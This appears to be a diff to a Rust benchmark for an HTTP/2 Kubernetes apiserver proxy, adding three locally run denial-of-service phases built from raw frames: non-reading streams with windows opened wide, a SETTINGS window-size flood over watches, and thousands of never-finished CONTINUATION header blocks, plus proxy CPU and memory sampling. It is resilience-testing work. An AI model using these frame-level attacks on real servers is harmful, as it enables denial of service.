@@ -14,6 +14,10 @@
 //! on a machine where the simulator and the proxy share the cores, that shows how much of the
 //! victim's slowdown is the apiserver's (and the machine's) and how much the proxy's.
 //!
+//! Each row also says what the proxy cost meanwhile: its CPU (per cent of one core, over the
+//! victim's run through it) and its peak resident memory, sampled every 100 ms. skewgate runs
+//! with its response budget at 32 MiB (`--max-buffered-response-bytes 33554432`).
+//!
 //! Run: `cargo bench --bench attacks` (options after `--`: `--seconds N`, default 3).
 
 #[path = "targets.rs"]
@@ -25,7 +29,7 @@ use std::sync::Arc;
 use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
 use std::time::{Duration, Instant};
 
-use targets::{Target, arg, num_arg, start_sim, start_targets};
+use targets::{Target, arg, num_arg, rss_kib, start_sim, start_targets_with};
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpStream;
 
@@ -265,6 +269,146 @@ fn greedy(
     })
 }
 
+/// A raw HTTP/2 connection from source address `from` (a loopback address of its own, so that
+/// per-client limits and holds see many clients), its receive buffer small: the preface and
+/// `hello` written, then held.
+async fn raw_h2(to: SocketAddr, from: std::net::Ipv4Addr, hello: &[u8]) -> Option<TcpStream> {
+    let socket = tokio::net::TcpSocket::new_v4().ok()?;
+    let _ = socket.set_recv_buffer_size(4096);
+    socket.bind(SocketAddr::from((from, 0))).ok()?;
+    let mut conn = socket.connect(to).await.ok()?;
+    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+    bytes.extend_from_slice(hello);
+    conn.write_all(&bytes).await.ok()?;
+    Some(conn)
+}
+
+/// One HTTP/2 frame.
+fn h2_frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let len = (payload.len() as u32).to_be_bytes();
+    let mut f = vec![len[1], len[2], len[3], kind, flags];
+    f.extend_from_slice(&stream.to_be_bytes());
+    f.extend_from_slice(payload);
+    f
+}
+
+/// A GET of `path` as a header block: static indices and raw literals.
+fn h2_get(path: &str) -> Vec<u8> {
+    let mut block = vec![0x82, 0x86, 0x04, path.len() as u8];
+    block.extend_from_slice(path.as_bytes());
+    block.extend_from_slice(&[0x01, 13]);
+    block.extend_from_slice(b"skewgate.test");
+    block
+}
+
+/// 40 addresses, each one connection with 100 GETs of the 4 MB LIST, its windows opened to 2^31-1
+/// (SETTINGS and WINDOW_UPDATE), its socket never read: only the sockets hold the proxy back.
+fn wide_open_non_readers(
+    addr: SocketAddr,
+    stop: Arc<AtomicBool>,
+    n: Arc<AtomicU64>,
+) -> tokio::task::JoinHandle<()> {
+    tokio::spawn(async move {
+        let mut hello = h2_frame(0x4, 0, 0, &[0, 4, 0x7f, 0xff, 0xff, 0xff]);
+        hello.extend(h2_frame(
+            0x8,
+            0,
+            0,
+            &(i32::MAX as u32 - 65_535).to_be_bytes(),
+        ));
+        for i in 0..100u32 {
+            let get = h2_get("/api/v1/namespaces/big/configmaps");
+            hello.extend(h2_frame(0x1, 0x5, 2 * i + 1, &get));
+        }
+        let mut held = Vec::new();
+        for a in 0..40u8 {
+            if let Some(c) = raw_h2(addr, std::net::Ipv4Addr::new(127, 0, 1, a + 1), &hello).await {
+                held.push(c);
+                n.fetch_add(100, Ordering::Relaxed);
+            }
+        }
+        while !stop.load(Ordering::Relaxed) {
+            tokio::time::sleep(Duration::from_millis(50)).await;
+        }
+    })
+}
+
+/// One connection with 1,000 watches, alternating SETTINGS_INITIAL_WINDOW_SIZE as fast as it can
+/// (its acknowledgements read and dropped, so that the proxy goes on reading).
+fn settings_over_watches(
+    addr: SocketAddr,
+    stop: Arc<AtomicBool>,
+    n: Arc<AtomicU64>,
+) -> tokio::task::JoinHandle<()> {
+    tokio::spawn(async move {
+        let mut hello = h2_frame(0x4, 0, 0, &[]);
+        for i in 0..1000u32 {
+            let get = h2_get("/api/v1/namespaces/default/configmaps?watch=1");
+            hello.extend(h2_frame(0x1, 0x5, 2 * i + 1, &get));
+        }
+        let Some(conn) = raw_h2(addr, std::net::Ipv4Addr::new(127, 0, 2, 1), &hello).await else {
+            return;
+        };
+        let (mut rd, mut wr) = conn.into_split();
+        tokio::spawn(async move {
+            let mut sink = vec![0u8; 64 << 10];
+            while rd.read(&mut sink).await.is_ok_and(|r| r > 0) {}
+        });
+        let mut batch = Vec::new();
+        for i in 0..500u32 {
+            let size = if i % 2 == 0 { 0u32 } else { 65_535 };
+            let mut payload = vec![0, 4];
+            payload.extend_from_slice(&size.to_be_bytes());
+            batch.extend(h2_frame(0x4, 0, 0, &payload));
+        }
+        while !stop.load(Ordering::Relaxed) {
+            if wr.write_all(&batch).await.is_err() {
+                return;
+            }
+            n.fetch_add(500, Ordering::Relaxed);
+        }
+    })
+}
+
+/// 2,000 connections, each with a header block of ~100 KB begun (HEADERS and six CONTINUATION
+/// frames without END_HEADERS) and never ended.
+fn unfinished_header_blocks(
+    addr: SocketAddr,
+    stop: Arc<AtomicBool>,
+    n: Arc<AtomicU64>,
+) -> tokio::task::JoinHandle<()> {
+    tokio::spawn(async move {
+        let mut hello = h2_frame(0x4, 0, 0, &[]);
+        let mut block = vec![0x82, 0x86, 0x00, 5];
+        block.extend_from_slice(b"x-big");
+        let mut rest = 7 * 16_384u32 - 127;
+        block.push(0x7f);
+        while rest >= 128 {
+            block.push((rest % 128) as u8 | 0x80);
+            rest /= 128;
+        }
+        block.push(rest as u8);
+        hello.extend(h2_frame(0x1, 0, 1, &block));
+        for _ in 0..6 {
+            hello.extend(h2_frame(0x9, 0, 1, &vec![b'a'; 16_384]));
+        }
+        let mut held = Vec::new();
+        for i in 0..2000u32 {
+            if stop.load(Ordering::Relaxed) {
+                break;
+            }
+            let from = std::net::Ipv4Addr::new(127, 0, 3 + (i / 250) as u8, 1 + (i % 250) as u8);
+            if let Some(c) = raw_h2(addr, from, &hello).await {
+                held.push(c);
+                n.fetch_add(1, Ordering::Relaxed);
+            }
+        }
+        while !stop.load(Ordering::Relaxed) {
+            tokio::time::sleep(Duration::from_millis(50)).await;
+        }
+    })
+}
+
 /// Forty ConfigMaps of 100 KB in namespace `big` (a 4 MB LIST); `default/small` is already there.
 async fn fill_store(sim: SocketAddr) {
     let client = reqwest::Client::new();
@@ -280,8 +424,20 @@ async fn fill_store(sim: SocketAddr) {
 }
 
 /// The phases: a name and the attack run beside the victim.
-const PHASES: [(&str, Option<Attack>); 8] = [
+const PHASES: [(&str, Option<Attack>); 11] = [
     ("quiet", None),
+    (
+        "40 addresses x 100 unread 4 MB LISTs, windows wide open",
+        Some(wide_open_non_readers),
+    ),
+    (
+        "SETTINGS_INITIAL_WINDOW_SIZE alternating over 1,000 watches",
+        Some(settings_over_watches),
+    ),
+    (
+        "2,000 header blocks of 100 KB never ended",
+        Some(unfinished_header_blocks),
+    ),
     (
         "clients not reading 4 MB LISTs (32 streams)",
         Some(non_readers),
@@ -350,16 +506,37 @@ async fn phases(target: &Target, sim: SocketAddr, seconds: u64, failures: &mut V
         target.name
     );
     println!(
-        "| phase | victim p50 µs | p99 µs | p99 × quiet | direct p99 µs | p99 × direct | victim failures | attack requests |"
+        "| phase | victim p50 µs | p99 µs | p99 × quiet | direct p99 µs | p99 × direct | victim failures | attack requests | proxy CPU % | proxy RSS peak MiB |"
     );
-    println!("|---|---|---|---|---|---|---|---|");
+    println!("|---|---|---|---|---|---|---|---|---|---|");
     let mut quiet_p99 = 0;
+    let pid = target.process.as_ref().map(|p| p.child.id());
     for (i, (name, attack)) in PHASES.iter().enumerate() {
         let attacker = attack.and_then(|_| spawn_attacker(i, target.h2, 2 * seconds * 1000 + 500));
         if attacker.is_some() {
             tokio::time::sleep(Duration::from_millis(300)).await;
         }
+        let cpu_before = target.process.as_ref().map_or(0.0, |p| p.cpu_seconds());
+        let began = Instant::now();
+        let peak = Arc::new(AtomicU64::new(0));
+        let sampling = Arc::new(AtomicBool::new(true));
+        let sampler = pid.map(|pid| {
+            let (peak, sampling) = (peak.clone(), sampling.clone());
+            tokio::spawn(async move {
+                while sampling.load(Ordering::Relaxed) {
+                    peak.fetch_max(rss_kib(pid), Ordering::Relaxed);
+                    tokio::time::sleep(Duration::from_millis(100)).await;
+                }
+            })
+        });
         let (lat, failed, first) = victim(base.clone(), seconds).await;
+        let cpu = target.process.as_ref().map_or(0.0, |p| p.cpu_seconds()) - cpu_before;
+        let cpu_pct = 100.0 * cpu / began.elapsed().as_secs_f64();
+        sampling.store(false, Ordering::Relaxed);
+        if let Some(s) = sampler {
+            let _ = s.await;
+        }
+        let rss_mib = peak.load(Ordering::Relaxed) >> 10;
         if let Some(f) = first {
             failures.push(format!("{} under {name}: {f}", target.name));
         }
@@ -374,7 +551,7 @@ async fn phases(target: &Target, sim: SocketAddr, seconds: u64, failures: &mut V
             quiet_p99 = p99.max(1);
         }
         println!(
-            "| {name} | {p50} | {p99} | {:.2} | {direct_p99} | {:.2} | {failed} | {count} |",
+            "| {name} | {p50} | {p99} | {:.2} | {direct_p99} | {:.2} | {failed} | {count} | {cpu_pct:.0} | {rss_mib} |",
             p99 as f64 / quiet_p99 as f64,
             p99 as f64 / direct_p99 as f64,
         );
@@ -404,7 +581,9 @@ fn main() {
         std::fs::create_dir_all(&dir).expect("dir");
         let (_sim, sim_addr) = start_sim(exe).await;
         fill_store(sim_addr).await;
-        let targets = start_targets(exe, &dir, sim_addr).await;
+        // The response budget at 32 MiB, as the attacks on it were first run.
+        let budget = ["--max-buffered-response-bytes", "33554432"];
+        let targets = start_targets_with(exe, &dir, sim_addr, &budget).await;
         let mut failures = Vec::new();
         for target in targets
             .iter()
